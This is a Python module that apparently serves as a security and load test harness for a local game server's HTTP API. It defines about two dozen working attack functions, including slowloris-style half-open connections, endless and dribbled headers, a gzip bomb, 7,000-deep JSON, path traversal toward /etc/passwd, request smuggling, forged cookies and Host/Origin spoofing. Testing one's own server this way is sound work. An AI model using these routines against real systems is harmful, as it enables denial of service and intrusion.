"""Attacks by requests: slow, endless, huge, malformed, or simply many."""

from __future__ import annotations

import gzip
import time

from .attacker import Attack, Outcome, Target, answer_to, flood, hold, open_socket, posted, push, request, single

MEGABYTE = 2**20


def half_open_requests(target: Target, seconds: float) -> Outcome:
    """1,100 connections that say nothing, or half a request."""
    starts = [b"", b"GET / HT", request(target, "GET /")[:-2], request(target, "PUT /api/me", "Content-Length: 9")]
    return hold(target, seconds, 1100, lambda number: starts[number % 4])


def endless_headers(target: Target, seconds: float) -> Outcome:
    """Headers without end on one connection, and again."""
    outcome, until = Outcome(), time.monotonic() + seconds
    while time.monotonic() < until:
        with open_socket(target) as raw:
            raw.sendall(request(target, "GET /")[:-2])
            outcome[push(raw, b"X-A: b\r\n" * 5000, until)] += 1
    return outcome


def many_small_headers(target: Target, seconds: float) -> Outcome:
    """Finished headers of 16, 60 and 250 kilobytes, in lines as short as can be."""
    start, sizes = request(target, "GET /healthz")[:-2], (16, 60, 250)
    requests = [start + b"a:b\r\n" * (kilobytes * 1024 // 5) + b"\r\n" for kilobytes in sizes]
    return single(target, seconds, lambda number: requests[number % 3])


def dribbled_headers(target: Target, seconds: float) -> Outcome:
    """A hundred requests whose headers come a line at a time."""
    return _dribble(target, seconds, request(target, "GET /")[:-2], b"X-A: b\r\n")


def slow_bodies(target: Target, seconds: float) -> Outcome:
    """A hundred bodies that come a byte at a time."""
    return _dribble(target, seconds, request(target, "PUT /api/me", "Content-Length: 9000"), b" ")


def _dribble(target: Target, seconds: float, start: bytes, piece: bytes) -> Outcome:
    outcome, until = Outcome(), time.monotonic() + seconds
    sockets = []
    for _ in range(100):
        raw = open_socket(target)
        raw.sendall(start)
        sockets.append(raw)
    while time.monotonic() < until:
        for raw in list(sockets):
            try:
                raw.sendall(piece)
            except OSError:
                outcome["closed"] += 1
                sockets.remove(raw)
        time.sleep(0.2)
    for raw in sockets:
        raw.settimeout(0.01)
        outcome[answer_to(raw)] += 1
        raw.close()
    return outcome


def huge_bodies(target: Target, seconds: float) -> Outcome:
    """Bodies of ten megabytes."""
    body = b'{"name":"' + b"x" * 10 * MEGABYTE + b'"}'
    return single(target, seconds, lambda _: request(target, "PUT /api/me", body=body), threads=4)


def deep_json(target: Target, seconds: float) -> Outcome:
    """Lists in lists, 7,000 deep."""
    body = b"[" * 7000 + b"]" * 7000
    return flood(target, seconds, lambda _: request(target, "POST /api/tables", body=body))


def many_cookies(target: Target, seconds: float) -> Outcome:
    """A thousand cookies with each request."""
    cookies = "; ".join(f"c{number}=v" for number in range(1000))
    return flood(target, seconds, lambda _: request(target, "GET /api/me", f"Cookie: {cookies}"))


def forged_cookies(target: Target, seconds: float) -> Outcome:
    """Identities with a signature that is a little wrong."""
    name, _, value = target.cookie.partition("=")
    return flood(
        target,
        seconds,
        lambda number: request(target, "GET /api/me").replace(
            target.cookie.encode(), f"{name}={value[:-6]}{number % 10**6:06}".encode()
        ),
    )


def invalid_utf8(target: Target, seconds: float) -> Outcome:
    """Bodies and paths that are no text."""
    bad = [request(target, "PUT /api/me", body=b'{"name":"\xff\xfe\xc0\x80"}'), request(target, "GET /%ff%fe/\xff")]
    return single(target, seconds, lambda number: bad[number % 2])


def compressed_bomb(target: Target, seconds: float) -> Outcome:
    """Ten megabytes of zeros, packed to ten kilobytes."""
    body = gzip.compress(b"0" * 10 * MEGABYTE)
    return flood(target, seconds, lambda _: request(target, "PUT /api/me", "Content-Encoding: gzip", body=body))


def path_traversal(target: Target, seconds: float) -> Outcome:
    """Paths that lead out of the page's directory."""
    paths = [
        "/../../etc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/..%5c..%5cetc",
        "/assets/..%2f..%2fsigning-key",
        "/%00",
    ]
    return flood(target, seconds, lambda number: request(target, f"GET {paths[number % 5]}"))


def long_paths(target: Target, seconds: float) -> Outcome:
    """Paths of eight thousand letters."""
    return flood(target, seconds, lambda number: request(target, f"GET /{number}{'a/' * 4000}"))


def header_smuggling(target: Target, seconds: float) -> Outcome:
    """A length and pieces at once, so that a second request hides in the body."""
    hidden = b"0\r\n\r\nGET /metrics HTTP/1.1\r\nHost: a\r\n\r\n"
    headers = ("Transfer-Encoding: chunked", f"Content-Length: {len(hidden)}")
    return single(target, seconds, lambda _: request(target, "PUT /api/me", *headers) + hidden)


def chunks_without_end(target: Target, seconds: float) -> Outcome:
    """A body in pieces of one byte that never ends."""
    outcome, until = Outcome(), time.monotonic() + seconds
    while time.monotonic() < until:
        with open_socket(target) as raw:
            raw.sendall(request(target, "PUT /api/me", "Transfer-Encoding: chunked"))
            outcome[push(raw, b"1\r\n \r\n" * 5000, until)] += 1
    return outcome


def senseless_chunks(target: Target, seconds: float) -> Outcome:
    """Pieces whose length is no number, or far too large."""
    start = request(target, "PUT /api/me", "Transfer-Encoding: chunked")
    sizes = [b"zz\r\n", b"-5\r\n", b"F" * 40 + b"\r\n", b"5;" + b"x" * 9000 + b"\r\n"]
    return single(target, seconds, lambda number: start + sizes[number % 4] + b"abcde\r\n")


def expect_continue(target: Target, seconds: float) -> Outcome:
    """Requests that ask whether they may send, and never do."""
    headers = ("Expect: 100-continue", "Content-Length: 9000")
    return hold(target, seconds, 110, lambda _: request(target, "PUT /api/me", *headers))


def pipelining(target: Target, seconds: float) -> Outcome:
    """Hundreds of requests on one connection without waiting for an answer or reading one."""
    outcome, until = Outcome(), time.monotonic() + seconds
    while time.monotonic() < until:
        with open_socket(target, receive_buffer=4096) as raw:
            outcome[push(raw, request(target, "GET /api/options") * 300, until)] += 1
    return outcome


def odd_methods(target: Target, seconds: float) -> Outcome:
    """Methods that are not served, and some that don't exist."""
    methods = ["OPTIONS", "TRACE", "PATCH", "DELETE", "PROPFIND", "BREW"]
    return single(target, seconds, lambda number: request(target, f"{methods[number % 6]} /api/tables"))


def old_http(target: Target, seconds: float) -> Outcome:
    """HTTP/1.0, HTTP/0.9, the start of HTTP/2 and of TLS."""
    starts = [
        b"GET /api/options HTTP/1.0\r\n\r\n",
        b"GET /api/options\r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
    ]
    return single(target, seconds, lambda number: starts[number % 4])


def many_ranges(target: Target, seconds: float) -> Outcome:
    """A thousand overlapping ranges of a file."""
    ranges = ",".join(f"0-{number}" for number in range(1000))
    return flood(target, seconds, lambda _: request(target, "GET /index.html", f"Range: bytes={ranges}"))


def long_queries(target: Target, seconds: float) -> Outcome:
    """Queries with a thousand rules."""
    query = "&".join("rule=sets=all" for _ in range(1000))
    return flood(target, seconds, lambda _: request(target, f"GET /api/rules?{query}"))


def foreign_hosts(target: Target, seconds: float) -> Outcome:
    """Requests for another name, and in the name of another site's page."""
    own = f"Host: 127.0.0.1:{target.port}".encode()
    foreign = [
        request(target, "GET /api/me").replace(own, b"Host: evil.example"),
        request(target, "PUT /api/me", "Origin: https://evil.example", body=b'{"name":"Eve"}'),
    ]
    return flood(target, seconds, lambda number: foreign[number % 2])


def connection_churn(target: Target, seconds: float) -> Outcome:
    """Connections that ask one small thing and go."""
    return single(target, seconds, lambda _: request(target, "GET /healthz", "Connection: close"))


def lobby_flood(target: Target, seconds: float) -> Outcome:
    """The lobby, the options and the statistics, as fast as they are answered."""
    paths = ["/api/tables", "/api/options", "/api/me/statistics", "/api/me/games?limit=100"]
    return flood(target, seconds, lambda number: request(target, f"GET {paths[number % 4]}"))


def new_identities(target: Target, seconds: float) -> Outcome:
    """A newcomer with every request."""
    cookie = f"Cookie: {target.cookie}\r\n".encode()
    return flood(target, seconds, lambda _: request(target, "GET /api/me").replace(cookie, b""))


def name_flood(target: Target, seconds: float) -> Outcome:
    """A new name with every request, some of them too long or invisible."""
    names = ["Eve", "E" * 5000, "\u200b", "Ann"]
    return flood(
        target, seconds, lambda number: posted(target, "/api/me", {"name": f"{names[number % 4]}{number}"}, "PUT")
    )


ATTACKS: tuple[Attack, ...] = (
    half_open_requests,
    endless_headers,
    many_small_headers,
    dribbled_headers,
    slow_bodies,
    huge_bodies,
    deep_json,
    many_cookies,
    forged_cookies,
    invalid_utf8,
    compressed_bomb,
    path_traversal,
    long_paths,
    header_smuggling,
    chunks_without_end,
    senseless_chunks,
    expect_continue,
    pipelining,
    odd_methods,
    old_http,
    many_ranges,
    long_queries,
    foreign_hosts,
    connection_churn,
    lobby_flood,
    new_identities,
    name_flood,
)
